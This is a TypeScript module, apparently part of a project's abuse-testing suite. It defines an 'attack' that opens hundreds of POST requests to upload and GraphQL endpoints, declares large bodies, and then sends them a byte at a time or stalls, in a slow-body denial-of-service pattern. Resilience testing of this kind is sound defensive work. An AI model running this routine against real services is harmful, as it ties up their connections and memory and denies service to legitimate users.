import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';

const seconds = 15;
const senders = 200;

/** Bodies that arrive byte by byte, or stall: each could occupy a place and memory forever. */
export const attack: Attack = {
  name: 'two hundred bodies that drip or stop',
  async run({ url, attacker, scale }) {
    const { key } = attacker.credentials;
    const { editor } = attacker.tokens;
    const path = `/api/projects/${attacker.room.project.id}`;
    const send = (index: number): Promise<void> =>
      new Promise((resolve) => {
        const sending = request(
          url + (index % 2 ? `${path}/upload` : '/graphql'),
          {
            method: 'POST',
            headers: {
              'content-type': 'application/json',
              'content-length': '3000000',
              authorization: `Bearer ${index % 4 < 2 ? editor : key}`,
            },
          },
          (response) => void response.resume().on('close', resolve),
        );
        sending.on('error', () => resolve());
        sending.write('{"fileName":"');
        // Half of them stop here.
        const dripping = index % 8 < 4 ? setInterval(() => sending.write('x'), 500) : undefined;
        sending.on('close', () => clearInterval(dripping));
        void sleep(scale * seconds * 1_000).then(() => sending.destroy());
      });
    await Promise.all(Array.from({ length: scale * senders }, (_, index) => send(index)));
  },
};
